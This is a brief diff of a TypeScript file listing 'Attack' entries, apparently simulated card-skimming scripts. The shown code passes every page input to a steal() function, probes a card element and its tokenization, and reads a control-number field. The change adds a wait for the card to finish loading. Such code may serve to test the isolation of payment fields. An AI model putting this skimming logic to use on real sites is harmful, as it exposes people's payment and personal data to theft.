@@ -68,6 +68,8 @@ export const ADDRESSES: readonly Attack[] = [
         const card = document.getElementById('card');
         for (const input of document.querySelectorAll('input')) steal(input.value);
         crawl(card);
+        // a page that was loaded anew instead loads its fields anew
+        while (card.state === 'loading') await new Promise((done) => setTimeout(done, 20));
         const { state, empty, complete } = card;
         const code = await card.tokenize().then(() => 'a token', (error) => error.code);
         const control = document.getElementById('control-number').value;
